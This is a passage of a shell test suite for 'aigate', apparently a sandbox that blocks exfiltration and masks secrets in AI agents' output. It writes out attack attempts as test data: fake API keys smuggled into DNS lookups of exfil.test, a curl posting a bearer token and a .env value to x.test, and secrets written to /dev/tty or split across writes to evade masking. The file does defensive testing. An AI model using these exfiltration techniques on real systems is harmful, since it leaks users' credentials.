	printf 'allow_net:\n  - "allowed.test"\n' >>"$CFG"
	fix_owner
	ag run --audit-log "$AUDIT" -- sh -c 'getent hosts "$1.exfil.test"; getent hosts "$2.exfil.test"
echo "getent $?"' sh "sk-ant-api03-Zq7XbT2mK9pLw4Rt6Yv8" "AKIAY34FZKBOKMUTVV7A"
	assert_status 0
	assert_stdout_contains "getent 2"
	assert_stderr_contains "aigate: denied: dns …exfil.test"
	assert_stderr_not_contains "zq7xbt2mk9" # the stub lower-cases names
	assert_stderr_not_contains "y34fzkbokmutvv7a"
	assert_no_leak
	assert_audit "$AUDIT" action=dns enforcer=dns verdict=denied
}

# /dev/tty is the opener's controlling terminal. The supervisor opens files
# for the sandbox, and it once had aigate's, the user's real terminal: a
# secret written there bypassed the relay (and keystrokes could be read).
# Now, with the user's terminal around aigate but CMD's fds redirected (no
# pty), /dev/tty is ENXIO inside and nothing reaches the terminal; with a
# pty it is the pty, masked.
test_mask_dev_tty() {
	mask_setup
	command -v script >/dev/null 2>&1 || skip "script(1) (bsdutils) is not installed"
	local inner
	# The secret in a file: script(1) writes its command line into the log.
	printf '%s\n' "$ANTHROPIC" >"$PROJ/tok.txt"
	fix_owner
	# --foreground: timeout would otherwise put aigate in a process group of
	# its own, in the background of script's terminal, where setting raw mode
	# stops it with SIGTTOU (as it would vi). SHELL: script runs "$SHELL -c";
	# bash execs the command and dash does not, which changes the groups.
	inner=$(printf '%q ' timeout --foreground -k 5 30 env -i PATH="$CLEAN_PATH" HOME="$HOME_DIR" \
		AIGATE_HOME="$AG_HOME" NO_COLOR=1 "${AS_USER[@]}" "$AIGATE" run --audit-log "$AUDIT" \
		-- sh -c 'cat tok.txt >/dev/tty; echo tty=$?')
	(cd "$PROJ" && SHELL=/bin/sh script -qec "$inner </dev/null >$T/redirected.out 2>&1" "$T/terminal.log") \
		>/dev/null 2>&1
	assert_file_contains "$T/redirected.out" "tty=2"
	assert_file_contains "$T/redirected.out" "No such device or address"
	assert_no_leak "$T/terminal.log" "$T/redirected.out"
	(cd "$PROJ" && SHELL=/bin/sh script -qec "$inner" "$T/pty.log") >/dev/null 2>&1
	assert_file_contains "$T/pty.log" "sk-ant-***"
	assert_file_contains "$T/pty.log" "tty=0"
	assert_no_leak "$T/pty.log"
}

# delay_ms counts from the last write that kept output waiting: a secret
# streamed a byte every 5 ms (an LLM's tokens) with the default 30 ms is
# held whole and masked.
test_mask_streamed_bytes() {
	mask_setup
	ag run --audit-log "$AUDIT" -- python3 -c '
import os, sys, time
s = sys.argv[1].encode() + b" done\n"
for i in range(len(s)):
    os.write(1, s[i:i + 1])
    time.sleep(0.005)' "$ANTHROPIC"
	assert_status 0
	assert_stdout_is "sk-ant-*** done"
	assert_no_leak
}

# Every secret (a private key block and a bearer header too) split at
# every byte offset into two writes, and into three (the second cut a
# third of the line after the first), with a pause of
# 2 ms between the writes (delay_ms 1000: the pauses never reach it), in
# one sandboxed run: each line comes out as it would from one write, and
# no fragment of a secret reaches the screen.
test_mask_every_split_with_pauses() {
	mask_setup 1000
	need_python
	write_file "$PROJ/splits.py" <<'PY'
import os, sys, time
# Arguments: SECRET MASKED pairs; "write" writes the splits, "expect" the masked lines.
pairs = list(zip(sys.argv[2::2], sys.argv[3::2]))
for s, masked in pairs:
    line = ("<" + s + ">\n").encode()
    cuts = []
    for k in range(1, len(line)):
        cuts.append((k,))
        m = k + max(1, len(line) // 3)
        if m < len(line):
            cuts.append((k, m))
    for c in cuts:
        if sys.argv[1] == "expect":
            continue
        at = 0
        for x in c + (len(line),):
            os.write(1, line[at:x])
            at = x
            time.sleep(0.002)
    if sys.argv[1] == "expect":
        sys.stdout.write(("<" + masked + ">\n") * len(cuts))
PY
	local names=(ANTHROPIC OPENAI_PROJ OPENAI AWS AWS_STS GH_PAT_CLASSIC GH_OAUTH GH_PAT SLACK_BOT
		SLACK_USER JWT GOOGLE STRIPE_LIVE STRIPE_TEST) masked=(sk-ant-*** sk-*** sk-*** AKIA***
		ASIA*** ghp_*** gho_*** github_pat_*** xoxb-*** xoxp-*** eyJ*** AIza*** sk_live_***
		rk_test_***) values=() i
	for i in "${!names[@]}"; do values+=("${!names[i]}" "${masked[i]}"); done
	values+=("Bearer $BEARER_TOKEN" "Bearer ***"
		"$(printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n-----END OPENSSH PRIVATE KEY-----' "$PEM_BODY")" "***")
	AG_TIMEOUT=300
	ag run --audit-log "$AUDIT" -- python3 splits.py write "${values[@]}"
	assert_status 0
	"$PYTHON" "$PROJ/splits.py" expect "${values[@]}" >"$T/want"
	cmp -s "$OUT" "$T/want" || {
		diff "$T/want" "$OUT" | head -n 20 >&2
		fail "the split lines should come out as the one-write lines do"
	}
	assert_no_leak
}

# Output never waits longer than delay_ms, so a secret written slower than
# that (four bytes every 40 ms against the default 30) cannot wait whole:
# its first bytes go out before they can be told from a word, and it is
# masked from its first random-looking bytes on (docs/masking.md). Nothing
# past "sk-ant-api0" reaches the screen; the text after it passes.
test_mask_slower_than_delay() {
	mask_setup
	ag run --audit-log "$AUDIT" -- python3 -c '
import os, sys, time
s = sys.argv[1].encode()
for i in range(0, len(s), 4):
    os.write(1, s[i:i + 4])
    time.sleep(0.04)
os.write(1, b" done\n")' "$ANTHROPIC"
	assert_status 0
	assert_stdout_contains "*** done"
	grep -aq '^sk-ant-' "$OUT" || fail "the key's shown prefix should come first"
	local i
	for ((i = 11; i + 8 <= ${#ANTHROPIC}; i++)); do
		grep -aqF -- "${ANTHROPIC:i:8}" "$OUT" && fail "bytes $i… of the key reached the screen: ${ANTHROPIC:i:8}"
	done
	assert_mask_records "$AUDIT" "anthropic stdout 1"
}

# The --ci summary lists denied programs by name, which the sandbox chooses:
# a copy of cat named after a token is shown masked, on stderr and in
# $GITHUB_STEP_SUMMARY.
test_mask_ci_summary() {
	mask_setup
	printf 'API_KEY=x\n' >"$PROJ/.env"
	mkdir -p "$PROJ/bin"
	cp /bin/cat "$PROJ/bin/$ANTHROPIC"
	fix_owner
	AG_ENV=(GITHUB_STEP_SUMMARY="$T/summary.md")
	: >"$T/summary.md"
	chmod 666 "$T/summary.md"
	ag run --ci -- sh -c 'LD_PRELOAD= "bin/$1" .env; true' sh "$ANTHROPIC"
	assert_status 0
	assert_stderr_contains "sk-ant-***"
	# Markdown: the masked cell is escaped like any other ("\*" shows "*").
	assert_file_contains "$T/summary.md" 'sk-ant-\*\*\*'
	assert_no_leak "$OUT" "$ERR" "$T/summary.md"
}

# A command line aigate refuses up front (deny_exec: curl) ends the run
# before the sandbox: its --ci summary (the COMMAND column) is masked all
# the same, on stderr and in $GITHUB_STEP_SUMMARY, with the presets and
# with the values of the hidden .env. (The token is on the command line
# here on purpose: the audit log keeps the command as given; it is the
# evidence, not output.)
test_mask_ci_summary_refused_command() {
	mask_setup
	printf 'DB_PASS=%s\n' "$DOTENV_VALUE" >"$PROJ/.env"
	fix_owner
	AG_ENV=(GITHUB_STEP_SUMMARY="$T/summary.md")
	: >"$T/summary.md"
	chmod 666 "$T/summary.md"
	ag run --ci -- curl -H "Authorization: Bearer $BEARER_TOKEN" -d "$DOTENV_VALUE" https://x.test/
	assert_status 126
	assert_stderr_contains "'curl' is denied by policy"
	assert_stderr_contains "Bearer ***"
	assert_file_contains "$T/summary.md" "Bearer \*\*\*"
	assert_file_contains "$T/summary.md" "curl"
	assert_no_leak "$OUT" "$ERR" "$T/summary.md"
}

# The step summary is markdown: a cell is masked before it is escaped.
# Escaped first, "_" became "\_" inside the secret and no mask knew it:
# an anthropic key with "_" in it and a hidden .env value with "_" reached
# $GITHUB_STEP_SUMMARY in full.
test_mask_ci_summary_markdown_escaping() {
	mask_setup
	local key=sk-ant-api03-Zq7X_bT2mLr9VwK4pNc8YhD3sFg6J value=db_pass_correct_horse
	printf 'DB_PASS=%s\n' "$value" >"$PROJ/.env"
	mkdir -p "$PROJ/bin"
	cp /bin/cat "$PROJ/bin/$key"
	cp /bin/cat "$PROJ/bin/$value"
	fix_owner
	LEAKS+=(Zq7X_bT2 'Zq7X\_bT2' correct_horse 'correct\_horse')
	AG_ENV=(GITHUB_STEP_SUMMARY="$T/summary.md")
	: >"$T/summary.md"
	chmod 666 "$T/summary.md"
	ag run --ci -- sh -c 'LD_PRELOAD= "bin/$1" .env; LD_PRELOAD= "bin/$2" .env; true' sh "$key" "$value"
	assert_status 0
	assert_file_contains "$T/summary.md" 'sk-ant-\*\*\*'
	assert_file_contains "$T/summary.md" '\*\*\*'
	assert_no_leak "$OUT" "$ERR" "$T/summary.md"
}
